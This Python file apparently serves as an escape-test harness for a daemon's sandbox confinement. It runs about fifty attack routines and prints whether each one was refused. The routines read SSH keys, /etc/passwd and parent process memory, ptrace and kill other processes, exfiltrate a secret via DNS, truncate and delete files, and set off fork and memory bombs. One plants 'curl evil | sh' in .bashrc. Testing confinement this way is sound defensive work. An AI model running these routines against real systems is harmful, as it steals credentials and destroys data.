"""What a parser or agent that was taken over would try. Run as a program: ATTACK, "confined" or "free", FOLDER.

FOLDER has `own` (its scratch), `home` (the operator's: ssh keys, a state folder with sockets), and `outside`. Says on
standard output `done` when the damage was done, `refused` and the reason when it was not.
"""

from __future__ import annotations

import ctypes
import errno
import mmap
import os
import platform
import resource
import signal
import socket
import subprocess
import sys
import threading
from collections.abc import Callable
from pathlib import Path

FILL_BYTES = 96 * 1024 * 1024
MEMORY_BYTES = 3 * 1024 * 1024 * 1024
PROCESSES = 20
IS_X86 = platform.machine() == "x86_64"


def read_ssh_key(folder: Path) -> None:
    (folder / "home" / ".ssh" / "id_ed25519").read_bytes()


def list_home(folder: Path) -> None:
    os.listdir(folder / "home")


def read_operator_home(folder: Path) -> None:
    os.listdir(Path("~").expanduser())


def read_chain_key(folder: Path) -> None:
    (folder / "home" / ".quarterdeck" / "chain.key").read_bytes()


def read_log(folder: Path) -> None:
    (folder / "home" / ".quarterdeck" / "log" / "000004.log").read_bytes()


def read_through_a_link(folder: Path) -> None:
    (folder / "own" / "link-to-key").read_bytes()


def read_through_dots(folder: Path) -> None:
    Path(f"{folder}/own/../home/.ssh/id_ed25519").read_bytes()


def read_passwords(folder: Path) -> None:
    Path("/etc/passwd").read_bytes()


def read_environment_of_parent(folder: Path) -> None:
    Path(f"/proc/{os.getppid()}/environ").read_bytes()


def read_memory_of_other(folder: Path) -> None:
    with open(f"/proc/{os.getppid()}/mem", "rb", buffering=0) as file:
        file.seek(_an_address_of(os.getppid()))
        file.read(16)


def read_memory_by_call(folder: Path) -> None:
    """process_vm_readv on the process that started us."""
    buffer = ctypes.create_string_buffer(16)

    class Part(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

    local, remote = Part(ctypes.addressof(buffer), 16), Part(int((folder / "address").read_text()), 16)
    _libc_call("process_vm_readv", os.getppid(), ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)


def trace_other(folder: Path) -> None:
    """PTRACE_ATTACH (16), then PTRACE_DETACH (17)."""
    victim = int((folder / "victim").read_text())
    _libc_call("ptrace", 16, victim, None, None)
    os.waitpid(victim, getattr(os, "__WALL", 0x40000000))
    _libc_call("ptrace", 17, victim, None, None)


def kill_other(folder: Path) -> None:
    os.kill(int((folder / "victim").read_text()), signal.SIGTERM)


def stop_the_group(folder: Path) -> None:
    os.kill(0, signal.SIGCONT)


def limit_other(folder: Path) -> None:
    resource.prlimit(int((folder / "victim").read_text()), resource.RLIMIT_CORE, (0, 0))


def tcp_connect(folder: Path) -> None:
    with socket.create_connection(("127.0.0.1", int((folder / "port").read_text())), timeout=5):
        pass


def tcp_listen(folder: Path) -> None:
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen()


def udp_send(folder: Path) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.sendto(b"secret", ("127.0.0.1", 9))


def udp_six(folder: Path) -> None:
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as one:
        one.bind(("::", 0))


def dns_query(folder: Path) -> None:
    """A secret can leave in the name that is asked for."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.connect(("127.0.0.1", 53))
        one.send(b"\0\1\1\0\0\1\0\0\0\0\0\0\6secret\7example\0\0\1\0\1")


def raw_socket(folder: Path) -> None:
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()


def netlink(folder: Path) -> None:
    socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).close()


def control_socket(folder: Path) -> None:
    with socket.socket(socket.AF_UNIX) as one:
        one.connect(str(folder / "home" / ".quarterdeck" / "control.sock"))


def abstract_socket(folder: Path) -> None:
    with socket.socket(socket.AF_UNIX) as one:
        one.connect("\0" + (folder / "abstract").read_text())


def sockets_by_ring(folder: Path) -> None:
    """io_uring can open sockets without the calls that a filter sees."""
    parameters = ctypes.create_string_buffer(120)
    handle = _syscall(425, 4, ctypes.byref(parameters))
    os.close(handle)


def write_outside(folder: Path) -> None:
    (folder / "outside" / "planted").write_text("x")


def write_home(folder: Path) -> None:
    (folder / "home" / ".bashrc").write_text("curl evil | sh")


def remove_file(folder: Path) -> None:
    (folder / "outside" / "precious").unlink()


def rename_file(folder: Path) -> None:
    (folder / "outside" / "precious").rename(folder / "outside" / "gone")


def truncate_file(folder: Path) -> None:
    os.truncate(folder / "outside" / "precious", 0)


def open_modes(folder: Path) -> None:
    (folder / "home" / ".ssh" / "id_ed25519").chmod(0o666)


def change_owner(folder: Path) -> None:
    os.chown(folder / "outside" / "precious", os.getuid(), os.getgid())


def link_file(folder: Path) -> None:
    os.link(folder / "outside" / "precious", folder / "own" / "linked")


def plant_link(folder: Path) -> None:
    os.symlink("/etc/passwd", folder / "outside" / "pointer")


def make_pipe(folder: Path) -> None:
    os.mkfifo(folder / "outside" / "pipe")


def fill_disk(folder: Path) -> None:
    """Several files, so that a limit for one of them is no help."""
    for number in range(3):
        with open(folder / "own" / f"fill-{number}", "wb") as file:
            file.write(bytes(FILL_BYTES // 3))


def fill_shared_memory(folder: Path) -> None:
    path = Path("/dev/shm") / f"qd-fill-{os.getpid()}"
    try:
        path.write_bytes(bytes(1 << 20))
    finally:
        path.unlink(missing_ok=True)


def memory_file(folder: Path) -> None:
    """Memory that no limit of addresses counts."""
    handle = os.memfd_create("bomb")
    os.ftruncate(handle, 1 << 20)


def memory_bomb(folder: Path) -> None:
    mmap.mmap(-1, MEMORY_BYTES, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS).close()


def fork_bomb(folder: Path) -> None:
    children = []
    for _ in range(PROCESSES):
        child = os.fork()
        if child == 0:
            os._exit(0)
        children.append(child)
    for child in children:
        os.waitpid(child, 0)


def run_shell(folder: Path) -> None:
    subprocess.run(["/bin/sh", "-c", "exit 0"], check=True)


def replace_itself(folder: Path) -> None:
    os.execv("/bin/sh", ["sh", "-c", "echo done"])


def many_files(folder: Path) -> None:
    handles = [os.open("/dev/null", os.O_RDONLY) for _ in range(300)]
    for handle in handles:
        os.close(handle)


def many_threads(folder: Path) -> None:
    """Addresses are limited, and with them stacks."""
    threading.stack_size(64 * 1024 * 1024)
    stop = threading.Event()
    threads = [threading.Thread(target=stop.wait, daemon=True) for _ in range(64)]
    try:
        for thread in threads:
            thread.start()
    finally:
        stop.set()


def mount_something(folder: Path) -> None:
    _libc_call("mount", b"none", str(folder / "outside").encode(), b"tmpfs", 0, None)
    _libc_call("umount", str(folder / "outside").encode())


def new_namespace(folder: Path) -> None:
    """CLONE_NEWUTS: from an own user namespace on, one is root again."""
    _libc_call("unshare", 0x04000000)


def load_program_into_kernel(folder: Path) -> None:
    """BPF_MAP_CREATE of an array."""
    attributes = (ctypes.c_uint32 * 18)(2, 4, 4, 1)
    os.close(_syscall(321 if IS_X86 else 280, 0, ctypes.byref(attributes), 72))


def key_ring(folder: Path) -> None:
    """KEYCTL_GET_KEYRING_ID of the session's."""
    _syscall(250 if IS_X86 else 219, 0, -3, 1)


def change_host_name(folder: Path) -> None:
    _libc_call("sethostname", os.uname().nodename.encode(), len(os.uname().nodename))


def leave_root(folder: Path) -> None:
    os.chroot(folder / "outside")


def watch_files(folder: Path) -> None:
    handle = ctypes.CDLL(None, use_errno=True).inotify_init1(0)
    if handle < 0:
        raise OSError(ctypes.get_errno(), "inotify")
    os.close(handle)


ATTACKS: dict[str, Callable[[Path], None]] = {
    one.__name__: one
    for one in (
        read_ssh_key, list_home, read_operator_home, read_chain_key, read_log, read_through_a_link, read_through_dots,
        read_passwords, read_environment_of_parent, read_memory_of_other, read_memory_by_call, trace_other, kill_other,
        stop_the_group, limit_other, tcp_connect, tcp_listen, udp_send, udp_six, dns_query, raw_socket, netlink, control_socket,
        abstract_socket, sockets_by_ring, write_outside, write_home, remove_file, rename_file, truncate_file, open_modes,
        change_owner, link_file, plant_link, make_pipe, fill_disk, fill_shared_memory, memory_file, memory_bomb, fork_bomb,
        run_shell, replace_itself, many_files, many_threads, mount_something, new_namespace, load_program_into_kernel,
        key_ring, change_host_name, leave_root, watch_files,
    )
}  # fmt: skip


def _an_address_of(pid: int) -> int:
    first = Path(f"/proc/{pid}/maps").read_text().split("-", 1)[0]
    return int(first, 16)


def _libc_call(name: str, *arguments: object) -> int:
    result = int(getattr(ctypes.CDLL(None, use_errno=True), name)(*arguments))
    if result < 0:
        error = ctypes.get_errno()
        raise OSError(error, os.strerror(error))
    return result


def _syscall(number: int, *arguments: object) -> int:
    return _libc_call("syscall", ctypes.c_long(number), *arguments)


def main(name: str, how: str, folder: Path) -> None:
    # As a worker is: hardened, and confined before anything of strangers is looked at. Imported here, as it must be
    # possible to attack without any of it.
    if how == "confined":
        from quarterdeck_daemon.service.confinement.confine import confine
        from quarterdeck_daemon.service.confinement.limits import harden

        harden()
        confined = confine(folder / "own", (folder / "home", Path("~").expanduser()))
        if confined.level != "full":
            print(f"unconfined {confined.missing}", flush=True)
            return
    try:
        ATTACKS[name](folder)
    except (OSError, MemoryError, RuntimeError) as error:
        number = error.errno if isinstance(error, OSError) else None
        print(f"refused {errno.errorcode.get(number or 0, type(error).__name__)}", flush=True)
        os._exit(0)
    print("done", flush=True)
    os._exit(0)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], Path(sys.argv[3]))
